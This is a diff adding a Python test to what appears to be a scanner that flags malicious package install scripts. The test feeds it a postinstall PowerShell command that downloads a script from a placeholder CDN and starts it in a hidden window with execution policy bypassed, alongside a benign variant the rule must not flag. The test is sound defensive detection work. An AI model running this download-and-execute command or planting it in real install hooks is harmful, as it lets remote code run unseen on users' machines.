@@ -1057,6 +1057,19 @@ def test_powershell_download_then_start_process_is_download_execute():
         "powershell -Command \"Invoke-WebRequest -Uri 'https://cdn.example/l.zip' -OutFile 'l.zip'; Start-Process notepad\"")}))
 
 
+def test_powershell_started_on_a_downloaded_script_through_its_argument_list_is_download_execute():
+    # blind set 55's Windows Terminal fragment: `iwr … -OutFile "$d\\i.ps1"`, then `Start-Process powershell
+    # -WindowStyle Hidden -ArgumentList '-NoProfile','-ExecutionPolicy','Bypass','-File',"$d\\i.ps1"`
+    command = ("powershell -Command \"iwr -UseBasicParsing 'https://cdn.example/shell-init.ps1' -OutFile 'C:/Users/Public/i.ps1'; "
+               "Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoProfile','-ExecutionPolicy','Bypass','-File',"
+               "'C:/Users/Public/i.ps1'\"")
+    assert "install-script/download-execute" in rules(artifact({"postinstall": command}))
+    # PowerShell started on a script the package ships, next to a download it only saves, is not.
+    assert "install-script/download-execute" not in rules(artifact({"postinstall": (
+        "powershell -Command \"iwr 'https://cdn.example/data.json' -OutFile 'data.json'; Start-Process powershell "
+        "-ArgumentList '-NoProfile','-File','setup.ps1'\"")}))
+
+
 def test_a_bits_transfer_download_started_in_the_branch_that_checks_it_arrived_is_download_execute():
     # blind set 45's win-toast-notify: Start-BitsTransfer saves with -Destination, and the file is started in the
     # branch of `if (Test-Path …)`; a shell's `if [ -f x ]; then sh x; fi` is the same step.
